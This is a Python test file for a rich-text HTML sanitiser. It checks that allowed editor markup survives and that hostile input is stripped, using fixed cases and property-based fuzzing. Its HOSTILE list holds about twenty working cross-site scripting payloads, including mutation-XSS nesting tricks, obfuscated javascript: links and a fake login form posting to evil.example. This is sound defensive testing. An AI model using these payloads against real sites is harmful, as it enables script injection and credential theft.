from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as some

from publication.richtext import sanitised

OFFERED = (
    "<h2>Heading</h2>"
    "<p>Text with <strong>bold</strong>, <em>italic</em>, <strong><em>both</em></strong><br>and a break</p>"
    "<h3>Lesser heading</h3>"
    "<ul><li><p>one</p></li><li><p>two</p><ul><li><p>deeper</p></li></ul></li></ul>"
    '<ol start="3"><li><p>three</p></li></ol>'
    "<blockquote><p>«Մեջբերում» — цитата</p></blockquote>"
    "<hr>"
    '<p><a href="https://example.org/?a=1&amp;b=2" title="Title" rel="noopener">web</a> '
    '<a href="mailto:desk@example.org" rel="noopener">mail</a> '
    '<a href="tel:+37410000000" rel="noopener">call</a> '
    '<a href="/en/world/" rel="noopener">our own</a></p>'
)
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<p onclick=alert(1) style='position:fixed' class=modal id=top>text</p>",
    "<a href='javascript:alert(1)'>link</a>",
    "<a href=' &#x6a;avascript:alert(1)'>link</a>",
    "<a href='java&#xad;script:alert(1)'>link</a>",
    "<a href='java\u00adscript:alert(1)'>link</a>",
    "<a href='java&#9;script:alert(1)'>link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
    "<a href='vbscript:msgbox(1)' target=_blank ping=https://evil.example>link</a>",
    "<scr\u202eipt>alert(1)</scr\u202eipt>",
    "<object data=x.swf></object><embed src=x.swf><video src=x onerror=alert(1)></video>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><?php evil() ?>",
    "<template><img src=x onerror=alert(1)></template><textarea><img src=x onerror=alert(1)>",
]
# Pieces that quarrel with each other, between any texts at all.
PIECES = some.one_of(
    some.from_regex(
        r"</?(p|ul|li|h2|hr|br|strong|em|a|table|td|select|svg|script|style|title|math)>", fullmatch=True
    ),
    some.from_regex(r"&(amp|lt|nbsp|#x202e|#xad|#0|#10);|<!--|-->|[<>&'\"\u202e\xad ]", fullmatch=True),
    some.sampled_from(["<a href='/x'>", "<a href='java", "script:", "'>"]),
    some.text(max_size=5),
)


def test_everything_the_editor_offers_survives() -> None:
    assert sanitised(OFFERED) == OFFERED


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_comes_to_nothing(html: str) -> None:
    soup = BeautifulSoup(sanitised(f"<p>before</p>{html}"), "html.parser")
    assert "before" in soup.get_text()
    assert {tag.name for tag in soup.find_all()} <= {"p", "a"}
    assert {name for tag in soup.find_all() for name in tag.attrs} <= {"href", "rel"}
    assert [link["href"] for link in soup.find_all("a", href=True)] == []


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>a &lt;b&gt; c</p>", "<p>a &lt;b&gt; c</p>"),
        ("<p>5 < 6 & 7 > 2</p>", "<p>5 &lt; 6 &amp; 7 &gt; 2</p>"),
        ("<h1>Title</h1><p class=a>Text</p>", "Title<p>Text</p>"),
        ("<p>Go\u202e back&#x202e;wards\x00</p>", "<p>Go backwards</p>"),
        ("<p>one<strong> </strong>two</p>", "<p>one two</p>"),
    ],
)
def test_words_are_kept_when_their_dress_is_not(html: str, kept: str) -> None:
    assert sanitised(html) == kept


@pytest.mark.parametrize(
    "html",
    [
        *("", " ", "<p></p>", "<p> <br>&nbsp;</p><p></p>", "<p>\u202e</p>", "<p>&#x200b;</p>"),
        *("<ul><li><p></p></li></ul>", "<h2><strong> </strong></h2>", "<script>alert(1)</script>"),
        *('<p><a href="/x"></a></p>', "<blockquote><ol start=2><li></li></ol></blockquote>"),
    ],
)
def test_a_text_that_shows_nothing_is_empty(html: str) -> None:
    assert sanitised(html) == ""


@settings(deadline=None)
@given(some.lists(PIECES, max_size=12).map("".join))
def test_cleaning_what_is_clean_changes_nothing(html: str) -> None:
    once = sanitised(html)
    assert sanitised(once) == once


@settings(deadline=None)
@given(some.lists(PIECES, max_size=12).map("".join))
def test_whatever_is_typed_only_what_the_editor_offers_remains(html: str) -> None:
    soup = BeautifulSoup(sanitised(html), "html5lib").body
    assert soup is not None
    assert {tag.name for tag in soup.find_all()} <= {
        *("p", "br", "h2", "h3", "strong", "em", "ul", "ol", "li", "blockquote", "hr", "a")
    }
    assert {name for tag in soup.find_all() for name in tag.attrs} <= {"href", "rel", "title"}
    assert not [link for link in soup.find_all("a") if runs_a_script(str(link.get("href", "")))]


def runs_a_script(address: str) -> bool:
    """What browsers do with an address: line ends and tabs in it, and controls before it, do not count."""
    plain = re.sub(r"[\t\n\r]|^[\x00-\x20]+", "", address).lower()
    return plain.startswith(("javascript:", "data:", "vbscript:"))
